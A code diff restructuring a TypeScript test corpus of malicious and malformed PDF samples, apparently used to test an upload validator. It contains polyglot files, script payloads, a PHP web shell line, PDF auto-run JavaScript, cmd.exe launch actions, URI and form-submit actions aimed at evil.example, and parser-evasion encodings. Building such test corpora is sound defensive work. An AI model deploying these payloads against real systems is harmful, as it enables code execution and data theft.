@@ -79,187 +79,143 @@ function objectStream(
 /** An ordinary PDF. */
 export const plainPdf = pdf();
 
-/** PDFs that are also another format, or that do something: why each is rejected, or undefined if it is accepted. */
-export const pdfCorpus: Record<string, { bytes: Buffer; fault: PdfFault | undefined }> = {
-  'a picture by the name of a PDF': {
-    bytes: Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), plainPdf]),
-    fault: 'noPdf',
+/** Bytes by what is wrong with them. */
+const byFault: Record<PdfFault | 'none', Record<string, Buffer>> = {
+  noPdf: {
+    'a picture by the name of a PDF': Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), plainPdf]),
+    'a page of the web': Buffer.from('<!doctype html><script>alert(1)</script>'),
+    'a page of the web before a PDF': Buffer.concat([
+      Buffer.from('<html><script>alert(1)</script><!--'),
+      plainPdf,
+    ]),
+    'a drawing with a script': Buffer.from(
+      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+    ),
+    'an archive before a PDF': Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(26), plainPdf]),
+    'a GIF that is a script and a PDF': Buffer.concat([
+      Buffer.from('GIF89a/*'),
+      plainPdf,
+      Buffer.from('*/=1;alert(1)'),
+    ]),
+    'an email with a page in it': Buffer.from(
+      'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
+    ),
   },
-  'a page of the web': { bytes: Buffer.from('<!doctype html><script>alert(1)</script>'), fault: 'noPdf' },
-  'a page of the web before a PDF': {
-    bytes: Buffer.concat([Buffer.from('<html><script>alert(1)</script><!--'), plainPdf]),
-    fault: 'noPdf',
+  broken: {
+    'nothing but the header': Buffer.from('%PDF-1.7\n'),
+    'a PDF cut in half': plainPdf.subarray(0, plainPdf.length / 2),
+    'an archive behind a PDF': Buffer.concat([plainPdf, Buffer.from('PK\x03\x04'), zipEnd(0)]),
+    'an archive whose comment is the end of the PDF': pdf({
+      beforeEnd: zipEnd(`startxref\n${1000}\n%%EOF\n`.length),
+    }),
   },
-  'a drawing with a script': {
-    bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
-    fault: 'noPdf',
+  none: {
+    'a page of the web in a comment': pdf({ begin: '%<html><script>alert(document.cookie)</script>\n' }),
+    'a program for a server in a comment': pdf({ begin: '%<?php system($_GET[0]); ?>\n' }),
   },
-  'an archive before a PDF': {
-    bytes: Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(26), plainPdf]),
-    fault: 'noPdf',
-  },
-  'a GIF that is a script and a PDF': {
-    bytes: Buffer.concat([Buffer.from('GIF89a/*'), plainPdf, Buffer.from('*/=1;alert(1)')]),
-    fault: 'noPdf',
-  },
-  'an email with a page in it': {
-    bytes: Buffer.from('MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>'),
-    fault: 'noPdf',
-  },
-  'nothing but the header': { bytes: Buffer.from('%PDF-1.7\n'), fault: 'broken' },
-  'a PDF cut in half': { bytes: plainPdf.subarray(0, plainPdf.length / 2), fault: 'broken' },
-  'an archive behind a PDF': {
-    bytes: Buffer.concat([plainPdf, Buffer.from('PK\x03\x04'), zipEnd(0)]),
-    fault: 'broken',
-  },
-  'an archive whose comment is the end of the PDF': {
-    bytes: pdf({ beforeEnd: zipEnd(`startxref\n${1000}\n%%EOF\n`.length) }),
-    fault: 'broken',
-  },
-  'a page of the web in a comment': {
-    bytes: pdf({ begin: '%<html><script>alert(document.cookie)</script>\n' }),
-    fault: undefined,
-  },
-  'a program for a server in a comment': {
-    bytes: pdf({ begin: '%<?php system($_GET[0]); ?>\n' }),
-    fault: undefined,
-  },
-  'a script that runs when it opens': {
-    bytes: pdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
-    fault: 'active',
-  },
-  'a script in a packed object': {
-    bytes: pdf({ catalog: '/OpenAction 20 0 R', more: [objectStream(['<< /S /JavaScript /JS (x) >>'])] }),
-    fault: 'active',
-  },
-  'a script whose name is spelled otherwise': {
-    bytes: pdf({ catalog: '/OpenAction << /S /J#61v#61Script /#4a#53 (x) >>' }),
-    fault: 'active',
-  },
-  'a script in an object that no table names': {
-    bytes: pdf({ begin: '9 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n' }),
-    fault: 'active',
-  },
-  'a script behind a comment in the middle of an object’s head': {
-    bytes: pdf({ begin: '9 0 %comment\nobj << /S /JavaScript /JS (x) >>\nendobj\n' }),
-    fault: 'active',
-  },
-  'a script in an object inside another stream': {
-    bytes: pdf({ more: [stream('', '9 0 obj << /S /JavaScript /JS (x) >> endobj')] }),
-    fault: 'active',
-  },
-  'a script behind a string that says that the object ends': {
-    bytes: pdf({ catalog: '/Title (endobj stream \\) endobj) /Names << /JavaScript 9 0 R >>' }),
-    fault: 'active',
-  },
-  'a program that a click starts': {
-    bytes: pdf({ page: '/Annots [<< /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>]' }),
-    fault: 'active',
-  },
-  'an attached file': {
-    bytes: pdf({
+  active: {
+    'a script that runs when it opens': pdf({
+      catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>',
+    }),
+    'a script in a packed object': pdf({
+      catalog: '/OpenAction 20 0 R',
+      more: [objectStream(['<< /S /JavaScript /JS (x) >>'])],
+    }),
+    'a script whose name is spelled otherwise': pdf({
+      catalog: '/OpenAction << /S /J#61v#61Script /#4a#53 (x) >>',
+    }),
+    'a script in an object that no table names': pdf({
+      begin: '9 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n',
+    }),
+    'a script behind a comment in the middle of an object’s head': pdf({
+      begin: '9 0 %comment\nobj << /S /JavaScript /JS (x) >>\nendobj\n',
+    }),
+    'a script in an object inside another stream': pdf({
+      more: [stream('', '9 0 obj << /S /JavaScript /JS (x) >> endobj')],
+    }),
+    'a script behind a string that says that the object ends': pdf({
+      catalog: '/Title (endobj stream \\) endobj) /Names << /JavaScript 9 0 R >>',
+    }),
+    'a program that a click starts': pdf({
+      page: '/Annots [<< /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>]',
+    }),
+    'an attached file': pdf({
       catalog: '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>',
       more: [stream('/Type /EmbeddedFile', 'MZ')],
     }),
-    fault: 'active',
-  },
-  'an action of a page': {
-    bytes: pdf({ page: '/AA << /O << /S /URI /URI (https://evil.example) >> >>' }),
-    fault: 'active',
-  },
-  'an address that opens with it': {
-    bytes: pdf({ catalog: '/OpenAction << /S /URI /URI (https://evil.example) >>' }),
-    fault: 'active',
-  },
-  'an address that opens with it, by reference': {
-    bytes: pdf({ catalog: '/OpenAction 4 0 R', more: ['<< /S /URI /URI (https://evil.example) >>'] }),
-    fault: 'active',
-  },
-  'a script in the middle of what reads like a string': {
-    bytes: pdf({
+    'an action of a page': pdf({ page: '/AA << /O << /S /URI /URI (https://evil.example) >> >>' }),
+    'an address that opens with it': pdf({
+      catalog: '/OpenAction << /S /URI /URI (https://evil.example) >>',
+    }),
+    'an address that opens with it, by reference': pdf({
+      catalog: '/OpenAction 4 0 R',
+      more: ['<< /S /URI /URI (https://evil.example) >>'],
+    }),
+    'a script in the middle of what reads like a string': pdf({
       catalog: '/OpenAction 20 0 R',
       more: [packed('20 1 ', '( << /S /JavaScript /JS <61> >> )')],
     }),
-    fault: 'active',
-  },
-  'a script in the middle of what reads like a comment': {
-    bytes: pdf({ catalog: '/OpenAction 20 0 R', more: [packed('20 1 ', '% << /S /JavaScript /JS (x) >>')] }),
-    fault: 'active',
-  },
-  'a script behind the end of an object that is a value of it': {
-    bytes: pdf({ catalog: '/X endobj /OpenAction << /S /JavaScript /JS (x) >>' }),
-    fault: 'active',
-  },
-  'a script behind a stream that is a value': {
-    bytes: pdf({ catalog: '/X stream /OpenAction << /S /Java#53cript /JS (x) >>' }),
-    fault: 'active',
-  },
-  'a program in the list of a name tree that looks like a stream': {
-    bytes: pdf({ page: '/Annots [stream << /A << /S %x\n /Launch /F (cmd.exe) >> >>]' }),
-    fault: 'active',
-  },
-  'an address that opens after the harmless place': {
-    bytes: pdf({
+    'a script in the middle of what reads like a comment': pdf({
+      catalog: '/OpenAction 20 0 R',
+      more: [packed('20 1 ', '% << /S /JavaScript /JS (x) >>')],
+    }),
+    'a script behind the end of an object that is a value of it': pdf({
+      catalog: '/X endobj /OpenAction << /S /JavaScript /JS (x) >>',
+    }),
+    'a script behind a stream that is a value': pdf({
+      catalog: '/X stream /OpenAction << /S /Java#53cript /JS (x) >>',
+    }),
+    'a program in the list of a name tree that looks like a stream': pdf({
+      page: '/Annots [stream << /A << /S %x\n /Launch /F (cmd.exe) >> >>]',
+    }),
+    'an address that opens after the harmless place': pdf({
       catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >> >>',
     }),
-    fault: 'active',
-  },
-  'an address that opens as the second kind of one action': {
-    bytes: pdf({ catalog: '/OpenAction << /S /GoTo /S /URI /URI (https://evil.example) >>' }),
-    fault: 'active',
-  },
-  'an address that opens with it, packed': {
-    bytes: pdf({
+    'an address that opens as the second kind of one action': pdf({
+      catalog: '/OpenAction << /S /GoTo /S /URI /URI (https://evil.example) >>',
+    }),
+    'an address that opens with it, packed': pdf({
       catalog: '/OpenAction 20 0 R',
       more: [objectStream(['<< /S /URI /URI (https://evil.example) >>'])],
     }),
-    fault: 'active',
-  },
-  'an address that opens with it, its number hidden by a comment': {
-    bytes: pdf({
+    'an address that opens with it, its number hidden by a comment': pdf({
       catalog: '/OpenAction 9 0 R',
       begin: '9 0 %comment\nobj << /S /URI /URI (https://evil.example) >>\nendobj\n',
     }),
-    fault: 'active',
+    'a form of its own program': pdf({ catalog: '/AcroForm << /XFA 4 0 R >>' }),
+    'a form that sends itself': pdf({ more: ['<< /S /SubmitForm /F (https://evil.example) >>'] }),
+    'a film': pdf({ page: '/Annots [<< /Subtype /RichMedia >>]' }),
+    'a way into an attached file': pdf({ more: ['<< /S /GoToE /T << /R /C >> >>'] }),
+    'a file on another computer': pdf({ more: ['<< /S /GoToR /F (\\\\\\\\evil\\\\x) >>'] }),
   },
-  'a form of its own program': { bytes: pdf({ catalog: '/AcroForm << /XFA 4 0 R >>' }), fault: 'active' },
-  'a form that sends itself': {
-    bytes: pdf({ more: ['<< /S /SubmitForm /F (https://evil.example) >>'] }),
-    fault: 'active',
+  encrypted: {
+    'a locked PDF': pdf({ trailer: '/Encrypt << /Filter /Standard /V 5 >>' }),
   },
-  'a film': { bytes: pdf({ page: '/Annots [<< /Subtype /RichMedia >>]' }), fault: 'active' },
-  'a way into an attached file': {
-    bytes: pdf({ more: ['<< /S /GoToE /T << /R /C >> >>'] }),
-    fault: 'active',
-  },
-  'a file on another computer': {
-    bytes: pdf({ more: ['<< /S /GoToR /F (\\\\\\\\evil\\\\x) >>'] }),
-    fault: 'active',
-  },
-  'a locked PDF': { bytes: pdf({ trailer: '/Encrypt << /Filter /Standard /V 5 >>' }), fault: 'encrypted' },
-  'objects packed in a way of their own': {
-    bytes: pdf({
+  tooComplex: {
+    'objects packed in a way of their own': pdf({
       more: [
         objectStream(['<< /S /JavaScript >>'], '/Filter /ASCIIHexDecode', (data) =>
           Buffer.from(data.toString('hex')),
         ),
       ],
     }),
-    fault: 'tooComplex',
-  },
-  'objects packed under two names of a filter': {
-    bytes: pdf({ more: [objectStream(['<< /S /JavaScript >>'], '/Filter [] /Filter /FlateDecode')] }),
-    fault: 'tooComplex',
-  },
-  'packed objects that are no end of bytes': {
-    bytes: pdf({ more: [objectStream([' '.repeat(60 * 1024 * 1024)])] }),
-    fault: 'tooComplex',
-  },
-  'strings that are never closed, a million of them': {
-    bytes: pdf({ begin: '1 0 obj('.repeat(100_000) }),
-    fault: 'tooComplex',
+    'objects packed under two names of a filter': pdf({
+      more: [objectStream(['<< /S /JavaScript >>'], '/Filter [] /Filter /FlateDecode')],
+    }),
+    'packed objects that are no end of bytes': pdf({ more: [objectStream([' '.repeat(60 * 1024 * 1024)])] }),
+    'strings that are never closed, a million of them': pdf({ begin: '1 0 obj('.repeat(100_000) }),
   },
 };
+
+/** PDFs that are also another format, or that do something: why each is rejected, or undefined if it is accepted. */
+export const pdfCorpus: Record<string, { bytes: Buffer; fault: PdfFault | undefined }> = Object.fromEntries(
+  Object.entries(byFault).flatMap(([fault, files]) =>
+    Object.entries(files).map(([name, bytes]) => [
+      name,
+      { bytes, fault: fault === 'none' ? undefined : (fault as PdfFault) },
+    ]),
+  ),
+);
 
 /** Files that people send and the shop must accept. */
 export const goodPdfs: Record<string, Buffer> = {
